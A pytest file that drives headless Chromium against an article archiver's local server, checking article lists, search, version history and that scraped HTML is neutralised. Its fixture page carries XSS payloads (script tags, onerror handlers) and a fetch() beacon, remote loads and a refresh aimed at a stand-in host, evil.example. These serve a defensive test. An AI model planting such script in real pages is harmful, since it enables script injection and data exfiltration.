"""`archiver serve` in real headless Chromium, on an archive built by the real fetch path.

The archive holds two fixture articles (one fetched again after an edit, so it has two versions)
and a page whose scraped title, author and body carry HTML that would run if it were not escaped.
Chromium is Debian's (`scripts/test` installs it); Playwright drives it and never downloads one.
"""

from __future__ import annotations

import importlib.util
import os
import shutil
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from benchserve import served as serving

from archiver import store
from archiver.localserver import serve
from archiver.pipeline import archive_urls

pytestmark = pytest.mark.slow

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "pages"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]

HOSTILE_TITLE = "<script>alert(1)</script><img src=x onerror=alert(2)> Harbour council vote"
# what a captured page may carry that must never run or load when the archive shows it: scripts
# that would change the title and the page and call home, handlers, a refresh, remote loads
PLANTED_HEAD = """<base href="http://evil.example/">
<meta http-equiv="refresh" content="1; url=http://evil.example/away">
<link rel="stylesheet" href="http://evil.example/style.css">
<script>document.title = "script ran"; document.documentElement.dataset.ran = "1";
fetch("http://evil.example/beacon"); alert("captured page script");</script>
<script src="http://evil.example/app.js"></script>
<style>@import url("http://evil.example/import.css");
body { background: url("http://evil.example/bg.png") }
article { background-image: u\\72l(http://evil.example/escaped.png) }</style>"""
PLANTED_TAIL = """<img src="http://evil.example/pixel.gif" onerror="alert('onerror ran')">
<p style="background-image: url('http://evil.example/inline.png')">Styled from elsewhere.</p>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/post"><input name="q" value="x"></form>"""

HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">""" + PLANTED_HEAD + """
<title>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt; Harbour council vote</title>
<meta name="author" content="&lt;b onmouseover=alert(3)&gt;Eve">
<meta property="article:published_time" content="2025-08-01T10:00:00Z">
</head><body><article>
<h1>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt; Harbour council vote</h1>
<p>The harbour council voted on Tuesday to rebuild the old breakwater before the winter storms
arrive, after a long debate about the cost.</p>
<p>Members said the &lt;script&gt;alert(4)&lt;/script&gt; tag in this sentence is only text, and
the fishermen of the bay welcomed the decision &lt;img src=y onerror=alert(5)&gt; with relief.</p>
<p>Work on the breakwater starts in March and should take eighteen months, the council's
engineer told the meeting.</p>
</article>""" + PLANTED_TAIL + """</body></html>
"""

SEED_EDIT = ("The planned meeting comes amid", "The long-planned meeting comes amid")
# a correction of the rail story's byline only: a change of the article, not a new version
AUTHORS_EDIT = ("Maria Lopez, James Whitfield", "Maria Lopez, James Whitfield, Ada Byrne")
BYLINE_EDIT = ('<a href="/staff/james-whitfield">James Whitfield</a><br>',
               '<a href="/staff/james-whitfield">James Whitfield</a> and Ada Byrne<br>')
PHRASE = "replaced the damaged section with a raised embankment"  # from other-plain's body


def chromium_or_skip() -> None:
    if CHROMIUM.exists():
        return
    if os.environ.get("CI"):
        pytest.fail("Debian's chromium is missing at /usr/bin/chromium; scripts/test installs it")
    pytest.skip("Debian's chromium is not installed (apt-get install chromium, or run scripts/test)")


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, dict[str, str]]]:
    """An archive fetched from a local site: seed (2 versions), other, hostile."""
    from archiver.config import Settings

    root = tmp_path_factory.mktemp("site")
    shutil.copy(FIXTURES / "seed-plain.html", root / "seed.html")
    shutil.copy(FIXTURES / "other-plain.html", root / "other.html")
    (root / "hostile.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    db_path = tmp_path_factory.mktemp("db") / "archive.db"
    settings = Settings(allow_private=True, backoff_base=0.01, backoff_max=0.05, deadline=5.0)
    with serve(root) as site:
        urls = {name: f"{site.base_url}/{name}.html" for name in ("seed", "other", "hostile")}
        db = store.Archive(db_path)
        results = archive_urls(db, list(urls.values()), settings)
        assert [outcome.outcome for _, outcome in results] == ["new", "new", "new"]
        seed = root / "seed.html"
        seed.write_text(seed.read_text(encoding="utf-8").replace(*SEED_EDIT), encoding="utf-8")
        [(_, again)] = archive_urls(db, [urls["seed"]], settings)
        assert (again.outcome, again.version) == ("changed", 2)
        other = root / "other.html"
        html = other.read_text(encoding="utf-8")
        assert AUTHORS_EDIT[0] in html and BYLINE_EDIT[0] in html
        other.write_text(html.replace(*AUTHORS_EDIT).replace(*BYLINE_EDIT), encoding="utf-8")
        [(_, corrected)] = archive_urls(db, [urls["other"]], settings)
        assert (corrected.outcome, corrected.version, corrected.changed) == ("changed", 1, ("authors",))
        db.close()
    yield db_path, urls


@pytest.fixture(scope="module")
def served(archive: tuple[Path, dict[str, str]]) -> Iterator[str]:
    """`archiver serve --port 0` in a subprocess (the scale benchmark's starter, which also checks
    that it prints the archive's /archive URL); yields its base URL."""
    db_path, _ = archive
    with serving(db_path) as base:
        yield base


@pytest.fixture(scope="module")
def browser(served: str) -> Iterator[object]:
    # after `served`: the archive is built with asyncio.run, which cannot run inside the event
    # loop Playwright's sync API keeps in this thread
    chromium_or_skip()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        instance = pw.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        yield instance
        instance.close()


@pytest.fixture()
def page(browser):  # type: ignore[no-untyped-def]
    """A fresh page that records every dialog (alert, confirm, prompt), dismissing it, and every
    request its pages and frames make."""
    context = browser.new_context()
    tab = context.new_page()
    tab.set_default_timeout(10_000)
    tab.dialogs = []
    tab.requests = []
    tab.blocked = []  # requests the page's policy stopped inside Chromium, before any network
    context.on("request", lambda request: tab.requests.append(request.url))
    context.on("requestfailed", lambda request: request.failure == "csp" and tab.blocked.append(request.url))

    def on_dialog(dialog):  # type: ignore[no-untyped-def]
        tab.dialogs.append(dialog.message)
        dialog.dismiss()

    tab.on("dialog", on_dialog)
    yield tab
    context.close()


def test_articles_table_lists_the_articles(page, served):  # type: ignore[no-untyped-def]
    page.goto(f"{served}/archive/articles")
    titles = page.locator(".archiver-item-title").all_inner_texts()
    assert sorted(titles) == sorted([
        "Coastal Rail Line Reopens Six Months After Storm Washed Out Tracks",
        "Taliban Foreign Minister’s Tehran Visit Highlights Iran’s Terrorist Alliances",
        HOSTILE_TITLE,
    ])
    # newest first: the rail story (2025-09-03) before the harbour vote (2025-08-01) and the
    # Tehran visit (2025-07-10)
    assert titles[0].startswith("Coastal Rail Line")
    assert "3 rows" in page.locator("h3").first.inner_text()
    assert page.dialogs == []


def test_full_text_search_finds_the_article_by_a_phrase(page, served):  # type: ignore[no-untyped-def]
    page.goto(f"{served}/archive/articles")
    page.fill("input#_search", f'"{PHRASE}"')
    page.locator("input#_search").press("Enter")
    page.wait_for_url("**/-/search?q=*")  # the list's search box opens the search page
    assert page.locator(".archiver-item-title").all_inner_texts() == [
        "Coastal Rail Line Reopens Six Months After Storm Washed Out Tracks"
    ]
    assert page.locator(".archiver-snippet mark").count() >= 1  # the match, marked in a snippet
    # operators as typed, relevance first, date order one click away
    page.fill("input#q", "taliban OR rail*")
    page.locator("input#q").press("Enter")
    page.wait_for_url("**q=taliban+OR+rail*")
    assert len(page.locator(".archiver-item-title").all_inner_texts()) == 2
    page.get_by_role("link", name="newest").click()
    page.wait_for_url("**sort=newest*")
    assert page.locator(".archiver-item-title").all_inner_texts()[0].startswith("Coastal Rail Line")


def found_articles(page) -> set[int]:  # type: ignore[no-untyped-def]
    """The archived articles a results page links to."""
    hrefs = page.locator("a[href*='/archive/articles/']").evaluate_all("links => links.map(a => a.href)")
    return {int(urlsplit(href).path.rsplit("/", 1)[1]) for href in hrefs
            if urlsplit(href).path.rsplit("/", 1)[1].isdigit()}


@pytest.mark.skipif(importlib.util.find_spec("archiver.datasette.ftsquery") is None,
                    reason="FTS5 operators in the search box come with archiver.datasette.ftsquery "
                           "(issue 16's search work, branch issue16-scale)")
def test_search_operators_work_in_the_search_box(page, served, archive):  # type: ignore[no-untyped-def]
    seed, rail, hostile = (article_id_of(archive, name) for name in ("seed", "other", "hostile"))
    expected = {
        "rail OR breakwater": {rail, hostile},
        "tehran OR embankment": {seed, rail},
        "winter NOT breakwater": {rail},  # both say winter
        "breakwat*": {hostile},  # a prefix
        '"raised embankment"': {rail},  # a phrase ...
        '"embankment raised"': set(),  # ... in its order
    }
    for typed, articles in expected.items():
        page.goto(f"{served}/archive/articles")
        page.fill("input#_search", typed)
        page.locator("input#_search").press("Enter")
        page.wait_for_load_state()
        assert found_articles(page) == articles, typed
    assert page.dialogs == [] and left_127(page) == []


def test_article_view_shows_paragraphs_related_links_and_versions(page, served, archive):  # type: ignore[no-untyped-def]
    db_path, urls = archive
    db = store.Archive(db_path)
    article_id, body = db.execute(
        "SELECT id, body FROM articles WHERE fetched_url = ?", [urls["seed"]]
    ).fetchone()
    related = db.execute(
        "SELECT title, url FROM related_links WHERE article_id = ? ORDER BY position", [article_id]
    ).fetchall()
    db.close()
    page.goto(f"{served}/archive/articles")
    page.get_by_role("link", name="Taliban Foreign Minister’s Tehran Visit").click()
    page.wait_for_url(f"**/archive/articles/{article_id}")

    paragraphs = page.locator(".archiver-body p").all_inner_texts()
    assert paragraphs == [p for p in body.split("\n\n") if p]
    assert len(paragraphs) > 10
    assert SEED_EDIT[1] in paragraphs[1]

    links = page.locator("#related li > a").all()
    assert related and [(a.inner_text(), a.get_attribute("href")) for a in links] == related

    versions = page.locator("#versions li")
    assert versions.count() == 2
    versions.get_by_role("link", name="Version 2").click()
    page.wait_for_url("**/archive/article_versions/*")
    assert page.locator(".archiver-version .diff-del").filter(has_text=SEED_EDIT[0]).count() == 1
    assert page.locator(".archiver-version .diff-add").filter(has_text=SEED_EDIT[1]).count() == 1
    page.get_by_role("link", name="previous version").click()
    assert "The first version the archive saw." in page.inner_text("body")
    assert page.dialogs == []


def test_hostile_title_is_shown_as_text_and_never_run(page, served, archive):  # type: ignore[no-untyped-def]
    _, _urls = archive
    # the list, the reading view, a search hit, a canned query and a facet all show it
    page.goto(f"{served}/archive/articles?_search=breakwater")
    assert page.locator(".archiver-item-title").all_inner_texts() == [HOSTILE_TITLE]
    page.get_by_role("link", name="Harbour council vote").click()
    assert page.locator("h1.archiver-title").inner_text() == HOSTILE_TITLE
    assert "<script>alert(4)</script> tag in this sentence" in page.inner_text(".archiver-body")
    assert HOSTILE_TITLE in page.title()
    for path in ("/archive/latest_articles", "/archive/articles?_view=table",
                 "/archive/articles?_facet_array=authors"):
        page.goto(served + path)
        assert HOSTILE_TITLE in page.inner_text("body")
    # nothing the page scraped became an element or ran
    assert page.locator("img[src='x'], img[src='y'], b[onmouseover]").count() == 0
    time.sleep(0.3)  # let any onerror handler (there must be none) fire
    assert page.dialogs == []


def article_id_of(archive: tuple[Path, dict[str, str]], name: str) -> int:
    db_path, urls = archive
    with sqlite3.connect(db_path) as conn:
        return int(conn.execute("SELECT id FROM articles WHERE fetched_url = ?", [urls[name]]).fetchone()[0])


def left_127(page) -> list[str]:  # type: ignore[no-untyped-def]
    """The requests a page made that went (or tried to go) anywhere but 127.0.0.1."""
    return [url for url in page.requests if urlsplit(url).hostname != "127.0.0.1" and url not in page.blocked]


def test_the_captured_page_is_shown_and_nothing_in_it_runs_or_reaches_out(page, served, archive):  # type: ignore[no-untyped-def]
    hostile = article_id_of(archive, "hostile")
    page.goto(f"{served}/archive/articles/{hostile}")
    title = page.title()
    page.locator("a.archiver-captured-link").click()
    page.wait_for_url("**/archive/-/captured/*")
    frame_element = page.locator("iframe.archiver-frame")
    assert frame_element.get_attribute("sandbox") == ""
    frame = page.frame_locator("iframe.archiver-frame")
    # the captured text is there, as the page showed it
    assert "rebuild the old breakwater" in frame.locator("article").inner_text()
    assert frame.locator("h1").inner_text() == HOSTILE_TITLE
    time.sleep(1.5)  # past the planted refresh's 1 s and any handler (there must be none)
    assert page.dialogs == []  # no script, no handler ran
    assert left_127(page) == []  # nothing was loaded or sent from elsewhere
    # the CSS URL written with an escape, which the cleaning leaves, was stopped by the policy
    assert page.blocked == ["http://evil.example/escaped.png"]  # the only request tried
    assert any(url.endswith("/frame") for url in page.requests)  # the frame was loaded, from here
    assert page.frames[1].url.endswith("/frame")  # not refreshed or navigated away
    assert "script ran" not in page.title() and "Captured page" in page.title()
    assert frame.locator("html[data-ran]").count() == 0 and frame.locator("iframe, script").count() == 0
    # the frame's URL opened on its own runs nothing either (its policy sandboxes it)
    page.goto(page.frames[1].url if len(page.frames) > 1 else served)
    time.sleep(1.5)
    assert page.title() != "script ran" and page.locator("html[data-ran]").count() == 0
    assert page.dialogs == [] and left_127(page) == []
    # and the source view shows the page's HTML as text
    page.goto(f"{served}/archive/articles/{hostile}")
    assert page.title() == title
    page.get_by_role("link", name="source", exact=True).click()
    assert 'document.title = "script ran"' in page.locator("pre.archiver-page-source").inner_text()
    assert page.title() != "script ran" and page.dialogs == [] and left_127(page) == []


def test_canned_queries_lead_to_the_archived_articles(page, served, archive):  # type: ignore[no-untyped-def]
    rail = article_id_of(archive, "other")
    page.goto(f"{served}/archive/latest_articles")
    assert page.title() == "Latest articles · archive"
    page.get_by_role("link", name="Coastal Rail Line Reopens Six Months After Storm Washed Out Tracks").first.click()
    page.wait_for_url(f"**/archive/articles/{rail}")
    assert page.locator("h1.archiver-title").inner_text().startswith("Coastal Rail Line Reopens")
    page.goto(f"{served}/archive/changed_articles")
    assert page.title() == "Articles changed since first seen · archive"
    rows = page.locator("table.rows-and-columns tbody tr")
    assert rows.count() == 2  # the seed's new text, the rail story's corrected byline
    assert rows.filter(has_text="authors").count() == 1
    rows.filter(has_text="authors").get_by_role("link", name="Coastal Rail Line").click()
    page.wait_for_url(f"**/archive/articles/{rail}")
    page.goto(f"{served}/archive/related_graph")
    assert page.title() == "Related-link graph · archive"
    seed_title = "Taliban Foreign Minister’s Tehran Visit Highlights Iran’s Terrorist Alliances"
    page.get_by_role("link", name=seed_title).first.click()
    page.wait_for_url("**/archive/articles/*")
    assert page.locator("h1.archiver-title").inner_text() == seed_title
    assert page.dialogs == [] and left_127(page) == []


def test_a_corrected_byline_shows_in_the_history(page, served, archive):  # type: ignore[no-untyped-def]
    rail = article_id_of(archive, "other")
    page.goto(f"{served}/archive/articles/{rail}")
    assert page.locator(".archiver-authors").inner_text() == "Maria Lopez, James Whitfield, Ada Byrne"
    history = page.locator("#versions > ol > li")
    assert history.count() == 2  # the correction, then version 1
    correction = history.first
    assert "Corrected" in correction.inner_text()
    authors = correction.locator("li[data-field=authors]")
    assert authors.locator(".old").inner_text() == "Maria Lopez, James Whitfield"
    assert authors.locator(".new").inner_text() == "Maria Lopez, James Whitfield, Ada Byrne"
    assert "Version 1" in history.nth(1).inner_text()
    assert "1 version, 1 correction" in page.inner_text("p.archiver-source")
